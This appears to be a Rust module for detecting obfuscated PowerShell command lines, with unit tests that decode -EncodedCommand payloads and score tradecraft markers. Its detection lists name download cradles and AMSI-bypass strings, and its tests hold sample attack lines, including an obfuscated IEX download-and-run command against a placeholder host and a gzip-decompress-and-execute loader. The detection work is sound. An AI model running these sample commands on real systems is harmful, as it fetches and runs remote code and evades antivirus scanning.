//! The detection logic, in plain Rust: no host calls, so it is unit-tested on
//! the build machine.
//!
//! [`analyze`] reads a command line the way `powershell.exe` reads its
//! arguments: a switch is `-`, `/` or a dash look-alike (en dash, em dash,
//! horizontal bar) followed by any unambiguous prefix of the parameter name
//! (`-e`, `-ec`, `-enc`, `–EncodedCommand`, `/eNcOdEd`). The argument of an
//! encoded-command switch is base64 of UTF-16LE text and is decoded. Then the
//! command line and the decoded text are searched for obfuscation and
//! tradecraft markers, each with a weight; the sum (capped at 100) is the
//! score.

use base64::Engine;
use base64::alphabet::STANDARD;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};

/// Longest decoded text kept (characters); longer text is cut with `…`.
pub const MAX_DECODED_CHARS: usize = 4_000;
/// Shortest base64 argument treated as an encoded command (characters).
pub const MIN_PAYLOAD_CHARS: usize = 8;

const BASE64: GeneralPurpose = GeneralPurpose::new(
    &STANDARD,
    GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent),
);

/// Dash look-alikes `powershell.exe` accepts as a switch prefix.
const SWITCH_PREFIXES: [char; 5] = ['-', '/', '\u{2013}', '\u{2014}', '\u{2015}'];

/// A marker of obfuscation or tradecraft.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Marker {
    /// `-EncodedCommand` (any prefix) with a base64 argument.
    EncodedCommand,
    /// `[Convert]::FromBase64String`: a second layer of encoding.
    FromBase64String,
    /// `IEX` / `Invoke-Expression`: runs a string as code.
    InvokeExpression,
    /// Downloads: `Net.WebClient`, `DownloadString`, `Invoke-WebRequest`, `iwr`, BITS.
    Download,
    /// Code built from `[char]` codes.
    CharJoin,
    /// Backticks inside words (`I`E`X`).
    Backticks,
    /// Format-operator reordering (`"{1}{0}" -f`).
    FormatReorder,
    /// XOR decoding (`-bxor`).
    Xor,
    /// In-memory decompression (`IO.Compression`, `GzipStream`).
    Compression,
    /// String reversal (`[Array]::Reverse`, `-join ... [-1..`).
    Reverse,
    /// AMSI tampering (`AmsiUtils`, `amsiInitFailed`).
    AmsiBypass,
    /// `-WindowStyle Hidden` (any prefix, `h`/`1`).
    HiddenWindow,
    /// `-ExecutionPolicy Bypass|Unrestricted` (any prefix, `-ep`).
    ExecutionPolicyBypass,
    /// `-NoProfile` (`-nop` …).
    NoProfile,
    /// `-NonInteractive` (`-noni` …).
    NonInteractive,
}

impl Marker {
    /// Stable name for evidence.
    pub fn name(self) -> &'static str {
        match self {
            Marker::EncodedCommand => "encoded-command",
            Marker::FromBase64String => "frombase64string",
            Marker::InvokeExpression => "invoke-expression",
            Marker::Download => "download",
            Marker::CharJoin => "char-join",
            Marker::Backticks => "backticks",
            Marker::FormatReorder => "format-reorder",
            Marker::Xor => "xor",
            Marker::Compression => "compression",
            Marker::Reverse => "reverse",
            Marker::AmsiBypass => "amsi-bypass",
            Marker::HiddenWindow => "hidden-window",
            Marker::ExecutionPolicyBypass => "execution-policy-bypass",
            Marker::NoProfile => "no-profile",
            Marker::NonInteractive => "non-interactive",
        }
    }

    /// Contribution to the score.
    pub fn weight(self) -> u32 {
        match self {
            Marker::EncodedCommand => 35,
            Marker::AmsiBypass => 30,
            Marker::FromBase64String | Marker::InvokeExpression => 20,
            Marker::Download | Marker::CharJoin | Marker::Backticks | Marker::Compression => 15,
            Marker::FormatReorder
            | Marker::Xor
            | Marker::Reverse
            | Marker::HiddenWindow
            | Marker::ExecutionPolicyBypass => 10,
            Marker::NoProfile | Marker::NonInteractive => 5,
        }
    }

    /// Whether the marker is a way of hiding code (ATT&CK T1027.010).
    pub fn is_obfuscation(self) -> bool {
        matches!(
            self,
            Marker::CharJoin
                | Marker::Backticks
                | Marker::FormatReorder
                | Marker::Xor
                | Marker::Reverse
        )
    }
}

/// How the encoded argument decoded.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Decoded {
    /// UTF-16LE text, as `powershell.exe` expects.
    Utf16(String),
    /// UTF-8 text (`powershell.exe` would not run it as is, but it shows
    /// intent).
    Utf8(String),
    /// Valid base64 of something that is not text.
    Binary(usize),
    /// Not base64.
    Invalid,
}

impl Decoded {
    /// The text, if it decoded to text.
    pub fn text(&self) -> Option<&str> {
        match self {
            Decoded::Utf16(text) | Decoded::Utf8(text) => Some(text),
            _ => None,
        }
    }

    /// For evidence: `utf-16le`, `utf-8`, `binary (N bytes)`, `not base64`.
    pub fn describe(&self) -> String {
        match self {
            Decoded::Utf16(_) => "utf-16le".to_owned(),
            Decoded::Utf8(_) => "utf-8".to_owned(),
            Decoded::Binary(n) => format!("binary ({n} bytes)"),
            Decoded::Invalid => "not base64".to_owned(),
        }
    }
}

/// An `-EncodedCommand` switch and its argument.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct EncodedCommand {
    /// The switch as written (`-enc`, `/e`, `–EncodedCommand`).
    pub switch: String,
    /// The base64 argument.
    pub payload: String,
    /// What it decoded to.
    pub decoded: Decoded,
}

/// What a command line holds.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Analysis {
    /// The encoded command, if any.
    pub encoded: Option<EncodedCommand>,
    /// Texts nested in the decoded command as base64 string literals
    /// (`FromBase64String('…')`), decoded.
    pub inner: Vec<Decoded>,
    /// Markers found, in [`Marker`] order, without duplicates.
    pub markers: Vec<Marker>,
}

impl Analysis {
    /// Sum of the markers' weights, at most 100.
    pub fn score(&self) -> u32 {
        self.markers
            .iter()
            .map(|m| m.weight())
            .sum::<u32>()
            .min(100)
    }

    /// Whether `marker` was found.
    pub fn has(&self, marker: Marker) -> bool {
        self.markers.contains(&marker)
    }
}

/// The arguments of a command line: split on whitespace, with surrounding
/// quotes removed (`cmd /c "powershell -enc …"` yields `powershell`,
/// `-enc`, `…`: the quoted inner command is read as arguments too).
pub fn tokens(command_line: &str) -> Vec<&str> {
    command_line
        .split(|c: char| c.is_whitespace() || c == '"')
        .map(|t| t.trim_matches(|c| c == '\'' || c == ';' || c == ','))
        .filter(|t| !t.is_empty())
        .collect()
}

/// The parameter name of a switch token, lowercased, without its prefix.
pub fn switch_name(token: &str) -> Option<String> {
    let mut chars = token.chars();
    let first = chars.next()?;
    if !SWITCH_PREFIXES.contains(&first) {
        return None;
    }
    let name = chars.as_str().trim_end_matches(':');
    (!name.is_empty() && name.chars().all(|c| c.is_ascii_alphabetic()))
        .then(|| name.to_ascii_lowercase())
}

/// Whether `name` selects `-EncodedCommand`: `ec` or any prefix of
/// `encodedcommand` (`powershell.exe` resolves `-e` to it too).
pub fn is_encoded_switch(name: &str) -> bool {
    name == "ec" || (!name.is_empty() && "encodedcommand".starts_with(name))
}

/// Whether `name` is a prefix of `parameter` at least `min` long.
fn is_prefix_of(name: &str, parameter: &str, min: usize) -> bool {
    name.len() >= min && parameter.starts_with(name)
}

/// Whether a token names PowerShell (`powershell`, `powershell.exe`,
/// `C:\…\pwsh.exe`, `powershell_ise`).
fn names_powershell(token: &str) -> bool {
    let lower = token.to_ascii_lowercase();
    let file = lower.rsplit(['\\', '/']).next().unwrap_or(&lower);
    file.starts_with("powershell") || file.starts_with("pwsh")
}

/// Decodes a base64 argument: UTF-16LE text when it is, else UTF-8 text.
///
/// Even-length ASCII is also valid UTF-16 (of CJK characters), so UTF-16 is
/// tried first only when at least half of the high bytes are zero, as in
/// Latin-script UTF-16LE; otherwise UTF-8 first, then UTF-16 (non-Latin
/// scripts).
pub fn decode_payload(payload: &str) -> Decoded {
    let Ok(bytes) = BASE64.decode(payload.trim()) else {
        return Decoded::Invalid;
    };
    let utf16 = || {
        if bytes.len() < 2 || bytes.len() % 2 != 0 {
            return None;
        }
        let units: Vec<u16> = bytes
            .chunks_exact(2)
            .map(|pair| u16::from_le_bytes([pair[0], pair[1]]))
            .collect();
        String::from_utf16(&units).ok().filter(|t| is_text(t))
    };
    let utf8 = || {
        std::str::from_utf8(&bytes)
            .ok()
            .filter(|t| is_text(t))
            .map(str::to_owned)
    };
    let zero_high_bytes = bytes.iter().skip(1).step_by(2).filter(|&&b| b == 0).count();
    let latin_utf16 = zero_high_bytes * 2 >= bytes.len() / 2;
    let decoded = if latin_utf16 {
        utf16()
            .map(Decoded::Utf16)
            .or_else(|| utf8().map(Decoded::Utf8))
    } else {
        utf8()
            .map(Decoded::Utf8)
            .or_else(|| utf16().map(Decoded::Utf16))
    };
    decoded.unwrap_or(Decoded::Binary(bytes.len()))
}

/// Mostly printable characters (tabs and newlines allowed).
fn is_text(text: &str) -> bool {
    let total = text.chars().count();
    let printable = text
        .chars()
        .filter(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'))
        .count();
    total > 0 && printable * 100 >= total * 95
}

/// Whether `word` occurs in `haystack` (lowercase) not inside a longer
/// identifier.
fn has_word(haystack: &str, word: &str) -> bool {
    let is_ident = |c: char| c.is_ascii_alphanumeric() || c == '_' || c == '-';
    haystack.match_indices(word).any(|(at, _)| {
        let before = haystack[..at].chars().next_back();
        let after = haystack[at + word.len()..].chars().next();
        !before.is_some_and(is_ident) && !after.is_some_and(is_ident)
    })
}

/// Base64 string literals (`'…'` or `"…"`) of at least 24 characters.
fn base64_literals(text: &str) -> Vec<&str> {
    text.split(['\'', '"'])
        .skip(1)
        .step_by(2)
        .filter(|s| {
            s.len() >= 24
                && s.bytes()
                    .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'='))
        })
        .collect()
}

/// Markers in code text (a command line or a decoded command).
fn code_markers(text: &str, markers: &mut Vec<Marker>) {
    let lower = text.to_ascii_lowercase();
    // Backticks before letters that are not escape sequences (`n, `t …;
    // those are lowercase only, so `N` in `I`N`VOKE` counts).
    let ticks = text
        .as_bytes()
        .windows(2)
        .filter(|w| w[0] == b'`' && w[1].is_ascii_alphabetic() && !b"abefnrtuv".contains(&w[1]))
        .count();
    if ticks >= 2 {
        markers.push(Marker::Backticks);
    }
    // Keyword checks ignore backticks, which PowerShell ignores too.
    let plain: String = lower.chars().filter(|&c| c != '`').collect();
    let any = |needles: &[&str]| needles.iter().any(|n| plain.contains(n));
    if plain.contains("frombase64string") {
        markers.push(Marker::FromBase64String);
    }
    if plain.contains("invoke-expression") || has_word(&plain, "iex") {
        markers.push(Marker::InvokeExpression);
    }
    if any(&[
        "downloadstring",
        "downloadfile",
        "downloaddata",
        "net.webclient",
        "invoke-webrequest",
        "invoke-restmethod",
        "start-bitstransfer",
    ]) || has_word(&plain, "iwr")
        || has_word(&plain, "irm")
    {
        markers.push(Marker::Download);
    }
    if plain.matches("[char]").count() >= 3 || (plain.contains("[char]") && plain.contains("-join"))
    {
        markers.push(Marker::CharJoin);
    }
    if plain.contains("{0}") && plain.contains("-f") {
        markers.push(Marker::FormatReorder);
    }
    if plain.contains("-bxor") {
        markers.push(Marker::Xor);
    }
    if any(&["io.compression", "gzipstream", "deflatestream"]) {
        markers.push(Marker::Compression);
    }
    if any(&["[array]::reverse", "righttoleft"])
        || (plain.contains("-join") && plain.contains("[-1.."))
    {
        markers.push(Marker::Reverse);
    }
    if any(&["amsiutils", "amsiinitfailed", "amsiscanbuffer"]) {
        markers.push(Marker::AmsiBypass);
    }
}

/// Analyses one command line. Only switches after a token naming
/// PowerShell count (or any switch when `is_powershell_image`: the image
/// field says the process is PowerShell).
pub fn analyze(command_line: &str, is_powershell_image: bool) -> Analysis {
    let tokens = tokens(command_line);
    let mut markers = Vec::new();
    let mut encoded = None;
    let mut in_powershell = is_powershell_image;
    let mut params_done = false;
    let mut i = 0;
    while i < tokens.len() {
        let token = tokens[i];
        if names_powershell(token) {
            in_powershell = true;
            params_done = false;
        }
        let next = tokens.get(i + 1).copied();
        let switch = switch_name(token).filter(|_| in_powershell && !params_done);
        if let Some(name) = switch {
            let value = next.map(str::to_ascii_lowercase).unwrap_or_default();
            if is_encoded_switch(&name) && encoded.is_none() {
                if let Some(payload) = next.filter(|p| p.len() >= MIN_PAYLOAD_CHARS) {
                    let decoded = decode_payload(payload);
                    if decoded != Decoded::Invalid {
                        markers.push(Marker::EncodedCommand);
                    }
                    encoded = Some(EncodedCommand {
                        switch: token.to_owned(),
                        payload: payload.to_owned(),
                        decoded,
                    });
                    i += 2;
                    continue;
                }
            } else if is_prefix_of(&name, "windowstyle", 1)
                && (value.starts_with('h') || value == "1")
            {
                markers.push(Marker::HiddenWindow);
            } else if (is_prefix_of(&name, "executionpolicy", 2) || name == "ep")
                && (value.starts_with("by") || value.starts_with("un"))
            {
                markers.push(Marker::ExecutionPolicyBypass);
            } else if is_prefix_of(&name, "noprofile", 3) {
                markers.push(Marker::NoProfile);
            } else if is_prefix_of(&name, "noninteractive", 4) {
                markers.push(Marker::NonInteractive);
            } else if is_prefix_of(&name, "command", 1) || is_prefix_of(&name, "file", 1) {
                // What follows is the script or its arguments, not
                // switches of powershell.exe.
                params_done = true;
            }
        }
        i += 1;
    }
    if !in_powershell {
        return Analysis {
            encoded: None,
            inner: Vec::new(),
            markers: Vec::new(),
        };
    }
    code_markers(command_line, &mut markers);
    let mut inner = Vec::new();
    if let Some(text) = encoded.as_ref().and_then(|e| e.decoded.text()) {
        code_markers(text, &mut markers);
        inner = base64_literals(text)
            .into_iter()
            .map(decode_payload)
            .filter(|d| *d != Decoded::Invalid)
            .take(5)
            .collect();
        for text in inner.iter().filter_map(Decoded::text) {
            code_markers(text, &mut markers);
        }
    }
    markers.sort_unstable();
    markers.dedup();
    Analysis {
        encoded,
        inner,
        markers,
    }
}

/// `text` cut to `max` characters, with `…` when cut.
pub fn truncate(text: &str, max: usize) -> String {
    match text.char_indices().nth(max) {
        Some((at, _)) => format!("{}…", &text[..at]),
        None => text.to_owned(),
    }
}

/// Base64 of the UTF-16LE encoding of `text`: what `-EncodedCommand` takes.
/// For tests and for hunters building examples.
pub fn encode_command(text: &str) -> String {
    let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    BASE64.encode(bytes)
}

#[cfg(test)]
mod tests {
    use super::*;

    const PS: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

    #[test]
    fn every_unambiguous_spelling_of_the_switch_is_recognised() {
        for name in [
            "e",
            "ec",
            "en",
            "enc",
            "enco",
            "encodedcommand",
            "EncodedCommand",
            "eNcOdEdCoMmAnD",
        ] {
            assert!(is_encoded_switch(&name.to_ascii_lowercase()), "{name}");
        }
        for name in [
            "ex",
            "ep",
            "executionpolicy",
            "encodedarguments",
            "",
            "noprofile",
            "w",
        ] {
            assert!(!is_encoded_switch(name), "{name}");
        }
        let payload = encode_command("Write-Host hi");
        for switch in [
            "-e",
            "/enc",
            "\u{2013}EncodedCommand",
            "\u{2014}ec",
            "\u{2015}enco",
            "-EnC",
        ] {
            let a = analyze(&format!("powershell.exe {switch} {payload}"), false);
            let e = a.encoded.unwrap_or_else(|| panic!("{switch}"));
            assert_eq!(e.switch, switch);
            assert_eq!(e.decoded, Decoded::Utf16("Write-Host hi".to_owned()));
            assert!(a.markers.contains(&Marker::EncodedCommand));
        }
    }

    #[test]
    fn decodes_utf16_utf8_binary_and_rejects_garbage() {
        assert_eq!(
            decode_payload(&encode_command("IEX 1")),
            Decoded::Utf16("IEX 1".to_owned())
        );
        // Without padding, as attackers often paste it.
        let unpadded = encode_command("ab").trim_end_matches('=').to_owned();
        assert_eq!(decode_payload(&unpadded), Decoded::Utf16("ab".to_owned()));
        assert_eq!(
            decode_payload("SUVYIChnZXQtZGF0ZSk="),
            Decoded::Utf8("IEX (get-date)".to_owned())
        );
        // A gzip header.
        assert_eq!(decode_payload("H4sIAAAAAAAEAA=="), Decoded::Binary(10));
        assert_eq!(decode_payload("not base64!!"), Decoded::Invalid);
        // Non-Latin UTF-16LE text has no zero high bytes.
        assert_eq!(
            decode_payload(&encode_command("привет")),
            Decoded::Utf16("привет".to_owned())
        );
    }

    #[test]
    fn quoted_inner_commands_and_image_only_powershell_are_read() {
        let payload = encode_command("Get-Process");
        let a = analyze(
            &format!("cmd.exe /c \"powershell -nop -w hidden -enc {payload}\""),
            false,
        );
        assert_eq!(a.encoded.unwrap().decoded.text(), Some("Get-Process"));
        assert_eq!(
            a.markers,
            [
                Marker::EncodedCommand,
                Marker::HiddenWindow,
                Marker::NoProfile
            ]
        );
        // The command line lacks the executable, but the image is PowerShell.
        let a = analyze(&format!("-enc {payload}"), true);
        assert!(a.encoded.is_some());
    }

    #[test]
    fn switches_of_other_programs_are_ignored() {
        let payload = encode_command("Get-Process");
        for line in [
            format!("java.exe -e {payload}"),
            format!("C:\\tools\\x.exe -enc {payload} -w hidden"),
            "perl -e print".to_owned(),
        ] {
            let a = analyze(&line, false);
            assert_eq!(a.encoded, None, "{line}");
            assert!(a.markers.is_empty(), "{line}");
        }
    }

    #[test]
    fn decoded_tradecraft_is_scored() {
        let script = "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAEAAAAAAAAAAAAAAAAAA=='));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()";
        let line = format!(
            "{PS} -NoP -NonI -W Hidden -Exec Bypass -Enc {}",
            encode_command(script)
        );
        let a = analyze(&line, true);
        assert_eq!(
            a.markers,
            [
                Marker::EncodedCommand,
                Marker::FromBase64String,
                Marker::InvokeExpression,
                Marker::Compression,
                Marker::HiddenWindow,
                Marker::ExecutionPolicyBypass,
                Marker::NoProfile,
                Marker::NonInteractive,
            ]
        );
        assert_eq!(a.score(), 100);
        // The inner literal is gzip: binary, reported as such.
        assert!(matches!(a.inner[..], [Decoded::Binary(_)]));
    }

    #[test]
    fn plain_obfuscation_without_encoding_is_scored() {
        let line =
            "powershell -c \"I`E`X ((New-Object Net.WebClient).DownloadString('http://x/a'))\"";
        let a = analyze(line, false);
        assert_eq!(a.encoded, None);
        assert_eq!(
            a.markers,
            [
                Marker::InvokeExpression,
                Marker::Download,
                Marker::Backticks
            ]
        );
        assert_eq!(a.score(), 50);
        let chars = "powershell -c \"&([char]73+[char]69+[char]88) 'x'\"";
        assert!(analyze(chars, false).has(Marker::CharJoin));
        let fmt = "powershell -c (\"{1}{0}\" -f 'ss','Get-Proce')";
        assert!(analyze(fmt, false).has(Marker::FormatReorder));
        let amsi = "powershell -c [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')";
        assert!(analyze(amsi, false).has(Marker::AmsiBypass));
    }

    #[test]
    fn routine_administration_scores_low() {
        for line in [
            format!("{PS} -NoProfile -ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1"),
            format!(
                "{PS} -NoLogo -NonInteractive -Command Get-Service | Where-Object Status -eq Running"
            ),
            "\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -WorkingDirectory ~".to_owned(),
            format!("{PS} -ExecutionPolicy RemoteSigned -Command \"Write-Host `n done\""),
            format!("{PS} -Command \"$e = 'iexplore'; Start-Process $e\""),
        ] {
            let a = analyze(&line, true);
            assert!(a.encoded.is_none(), "{line}");
            assert!(a.score() < 40, "{line}: {:?}", a.markers);
        }
    }

    #[test]
    fn switches_inside_the_script_are_not_powershell_switches() {
        let a = analyze(
            "powershell -c Get-Content x -Encoding utf8 -en abcdefghijkl -w hidden",
            false,
        );
        assert_eq!(a.encoded, None);
        assert!(a.markers.is_empty(), "{:?}", a.markers);
        // A nested PowerShell starts over.
        let payload = encode_command("whoami");
        let a = analyze(
            &format!("powershell -c \"powershell -enc {payload}\""),
            false,
        );
        assert_eq!(a.encoded.unwrap().decoded.text(), Some("whoami"));
    }

    #[test]
    fn short_or_invalid_payloads() {
        // `-e` followed by something too short is not an encoded command.
        let a = analyze("powershell -e abc", false);
        assert_eq!(a.encoded, None);
        // Long but not base64: reported as such, without the marker.
        let a = analyze("powershell -enc this-is-not-base64-at-all", false);
        assert_eq!(a.encoded.as_ref().unwrap().decoded, Decoded::Invalid);
        assert!(!a.has(Marker::EncodedCommand));
        assert!(analyze("", false).markers.is_empty());
        assert!(analyze("powershell -enc", false).encoded.is_none());
    }

    #[test]
    fn truncation_is_char_safe() {
        assert_eq!(truncate("héllo", 2), "hé…");
        assert_eq!(truncate("hi", 5), "hi");
    }
}
